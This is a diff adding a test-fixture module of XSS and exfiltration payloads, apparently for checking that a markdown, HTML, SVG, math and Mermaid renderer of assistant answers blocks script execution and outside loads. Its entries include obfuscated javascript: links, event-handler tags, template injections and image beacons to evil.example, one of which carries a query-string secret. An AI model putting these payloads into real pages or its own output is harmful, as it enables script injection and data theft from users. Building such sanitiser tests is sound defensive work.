@@ -1,0 +1,196 @@
+// Texts that try to run, to leave, or to load: one per entry, by what they try. Each says `fired` or evil.example.
+
+const FIRE = 'window.__fired=1';
+const JS = `javascript:${FIRE}`;
+
+const links = [
+  `[a](${JS})`,
+  `[a](JaVaScRiPt:${FIRE})`,
+  `[a](java\tscript:${FIRE})`,
+  `[a](<java\nscript:${FIRE}>)`,
+  `[a](&#106;avascript:${FIRE})`,
+  `[a](&#x6A;avascript:${FIRE})`,
+  `[a](javascript&colon;${FIRE})`,
+  `[a](\u0001javascript:${FIRE})`,
+  `[a](\u00a0javascript:${FIRE})`,
+  `[a](%6Aavascript:${FIRE})`,
+  `[a](javascript://%0a${FIRE})`,
+  `[a](vbscript:msgbox(1))`,
+  `[a](data:text/html,<script>parent.__fired=1</script>)`,
+  `[a](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19maXJlZD0xPC9zY3JpcHQ+)`,
+  `[a](file:///etc/passwd)`,
+  `[a](blob:https://evil.example/1)`,
+  `[a](view-source:javascript:${FIRE})`,
+  `[a](filesystem:https://evil.example/x)`,
+  `[a](//evil.example "onmouseover=${FIRE}")`,
+  `[a](https://evil.example" onmouseover="${FIRE})`,
+  `[a][r]\n\n[r]: ${JS}`,
+  `[a][r]\n\n[r]: <${JS}> "t"`,
+  `[r]\n\n[r]: data:text/html,<script>parent.__fired=1</script>`,
+  `<${JS}>`,
+  `<javascript:window.__fired=2>`,
+  `[![a](${JS})](${JS})`,
+  `[[a](${JS})](${JS})`,
+  `[a]([b](${JS}))`,
+  `[](${JS})`,
+  `[a](${JS} "t" 't' (t))`,
+  `[\`a](${JS})\``,
+  `[**a](${JS})**`,
+  `[a\u202e](${JS})`,
+  `https://evil.example/?javascript:${FIRE}`,
+  `www.evil.example/"onclick="${FIRE}`,
+  `mailto:a@evil.example?body=<script>${FIRE}</script>`,
+  `[a](mailto:x" onclick="${FIRE})`,
+  `[a](\\javascript:${FIRE})`,
+  `[a](javascript\\:${FIRE})`,
+  `[a](\u200bjavascript:${FIRE})`,
+];
+
+const images = [
+  '![p](https://evil.example/pixel.png?q=secret)',
+  '![p](http://evil.example/pixel.png)',
+  '![p](//evil.example/pixel.png)',
+  `![p](${JS})`,
+  `![p](data:image/svg+xml,<svg onload="${FIRE}"/>)`,
+  '![p](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InBhcmVudC5fX2ZpcmVkPTEiLz4=)',
+  `![p](data:text/html,<script>${FIRE}</script>)`,
+  `![p" onerror="${FIRE}](x)`,
+  `![p](x" onerror="${FIRE})`,
+  '![p](https://evil.example/a.png =100x100)',
+  '![p][r]\n\n[r]: https://evil.example/ref.png',
+  '![p](ftp://evil.example/a.png)',
+];
+
+const html = [
+  `<script>${FIRE}</script>`,
+  `<ScRiPt>${FIRE}</sCrIpT>`,
+  `<script src=https://evil.example/x.js></script>`,
+  `<scr<script>ipt>${FIRE}</scr</script>ipt>`,
+  `<img src=x onerror=${FIRE}>`,
+  `<img/src=x/onerror=${FIRE}>`,
+  `<img src="https://evil.example/raw.png">`,
+  `<IMG """><SCRIPT>${FIRE}</SCRIPT>">`,
+  `<body onload=${FIRE}>`,
+  `<iframe src="${JS}"></iframe>`,
+  `<iframe srcdoc="<script>parent.__fired=1</script>"></iframe>`,
+  `<object data="${JS}"></object>`,
+  `<embed src="https://evil.example/x.swf">`,
+  `<a href="${JS}">x</a>`,
+  `<a href="https://evil.example" ping="https://evil.example/ping">x</a>`,
+  `<form action="https://evil.example"><button formaction="${JS}">x</button></form>`,
+  `<input autofocus onfocus=${FIRE}>`,
+  `<details open ontoggle=${FIRE}>x</details>`,
+  `<video src=x onerror=${FIRE}></video>`,
+  `<audio autoplay src="https://evil.example/a.mp3"></audio>`,
+  `<marquee onstart=${FIRE}>x</marquee>`,
+  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
+  `<base href="https://evil.example/">`,
+  `<link rel=stylesheet href="https://evil.example/x.css">`,
+  `<style>@import "https://evil.example/x.css";</style>`,
+  `<div style="background:url(https://evil.example/bg.png)">x</div>`,
+  `<template><script>${FIRE}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${FIRE}>">`,
+  `<textarea></textarea><script>${FIRE}</script>`,
+  `<!--><img src=x onerror=${FIRE}>-->`,
+  `<![CDATA[<script>${FIRE}</script>]]>`,
+  `<?xml version="1.0"?><script>${FIRE}</script>`,
+  `<portal src="https://evil.example"></portal>`,
+  `<x onclick=${FIRE} autofocus tabindex=1 onfocus=${FIRE}>x</x>`,
+  `<br onclick=${FIRE}>`,
+  `| a |\n|--|\n| <img src=x onerror=${FIRE}> |`,
+  `- <script>${FIRE}</script>\n  - <img src=x onerror=${FIRE}>`,
+  `> <svg onload=${FIRE}>`,
+  `# <img src=x onerror=${FIRE}>`,
+  `**<b onmouseover=${FIRE}>x</b>**`,
+];
+
+const svg = [
+  `<svg onload=${FIRE}></svg>`,
+  `<svg><script>${FIRE}</script></svg>`,
+  `<svg><script xlink:href="https://evil.example/x.js"/></svg>`,
+  `<svg><foreignObject><iframe srcdoc="<script>parent.__fired=1</script>"/></foreignObject></svg>`,
+  `<svg><foreignObject><img src=x onerror="top.__fired=1"/></foreignObject></svg>`,
+  `<svg><a href="${JS}"><text y="9">x</text></a></svg>`,
+  `<svg><a><animate attributeName="href" values="${JS}"/><text y="9">x</text></a></svg>`,
+  `<svg><set attributeName="onmouseover" to="${FIRE}"/></svg>`,
+  `<svg><animate onbegin="top.__fired=1" attributeName="x" dur="1s"/></svg>`,
+  `<svg><use href="https://evil.example/x.svg#a"/></svg>`,
+  `<svg><image href="https://evil.example/x.png"/></svg>`,
+  `<svg><style>@import url(https://evil.example/x.css);</style></svg>`,
+  `<svg><filter id="f"><feImage href="https://evil.example/x.png"/></filter></svg>`,
+  `<?xml-stylesheet href="https://evil.example/x.xsl"?><svg onload="parent.__fired=1"/>`,
+];
+
+const maths = [
+  `$\\href{${JS}}{x}$`,
+  `$$\\href{${JS}}{x}$$`,
+  '$\\includegraphics{https://evil.example/x.png}$',
+  '$\\url{https://evil.example}$',
+  `$\\htmlData{x=1}{<img src=x onerror=${FIRE}>}$`,
+  `$\\htmlStyle{background:url(https://evil.example/x)}{x}$`,
+  `$\\htmlId{composer}{x}$`,
+  `$\\text{<script>${FIRE}</script>}$`,
+  `$\\unicode{x3c}script$`,
+  `<math><mtext><img src=x onerror=${FIRE}></mtext></math>`,
+  `<math href="${JS}">x</math>`,
+  `<math><maction actiontype="statusline#${JS}">x</maction></math>`,
+  '$\\def\\x{\\x\\x}\\x$',
+  `$\\class{x" onclick="${FIRE}}{y}$`,
+];
+
+const mermaid = [
+  `graph LR\nA-->B\nclick A "${JS}"`,
+  `graph LR\nA-->B\nclick A href "${JS}" _top`,
+  `graph LR\nA-->B\nclick A call alert(1)`,
+  `graph LR\nA["<img src=x onerror=top.__fired=1>"]`,
+  `graph LR\nA["<script>top.__fired=1</script>"]`,
+  `graph LR\nA["<iframe srcdoc='<script>top.__fired=1</script>'>"]`,
+  `%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph LR\nA["<img src=x onerror=top.__fired=1>"]`,
+  `%%{init: {"themeCSS": "@import url(https://evil.example/x.css)"}}%%\ngraph LR\nA-->B`,
+  `sequenceDiagram\nparticipant A as <img src=x onerror=top.__fired=1>\nlink A: x @ ${JS}`,
+  `classDiagram\nclass A\nlink A "${JS}" "t"`,
+  `gantt\ntitle </script><script>parent.__fired=1</script>\nsection s\nt :a, 2024-01-01, 1d`,
+  `graph LR\nA["\\u003cimg src=x onerror=top.__fired=1\\u003e"]`,
+];
+
+const unicode = [
+  `\u202e<script>${FIRE}</script>`,
+  `＜script＞${FIRE}＜/script＞`,
+  `\u0000<script>${FIRE}</script>`,
+  `<scr\u0000ipt>${FIRE}</scr\u0000ipt>`,
+  `<img src=x onerror\u000b=${FIRE}>`,
+  `<\u200bscript>${FIRE}</script>`,
+  `\ufeff<script>${FIRE}</script>`,
+  `<img src=x onerror=&#119;indow.__fired=1>`,
+  `\ud800<script>${FIRE}</script>`,
+  `{{constructor.constructor('${FIRE}')()}}`,
+  `\${${FIRE}}`,
+  `{@html '<img src=x onerror=${FIRE}>'}`,
+];
+
+const fences = [
+  `\`\`\`"><img src=x onerror=${FIRE}>\nx\n\`\`\``,
+  `\`\`\`html title="</script><script>parent.__fired=1</script>"\nx\n\`\`\``,
+  `\`\`\`__proto__\nx\n\`\`\``,
+  `\`\`\`constructor\nx\n\`\`\``,
+  `\`</code><script>${FIRE}</script>\``,
+];
+
+/** What stands in an answer as it is. */
+export const texts = [
+  ...links,
+  ...images,
+  ...html,
+  ...svg,
+  ...maths,
+  ...unicode,
+  ...fences,
+  ...mermaid.map((text) => `\`\`\`mermaid\n${text}\n\`\`\``),
+];
+
+/** What runs in the frame, where `window` is its own: reaching another page or host is what must not be. */
+export const pages = [...html, ...svg].map((text) =>
+  text.replaceAll('window.__fired', 'top.__fired'),
+);
+
+export const diagrams = mermaid;
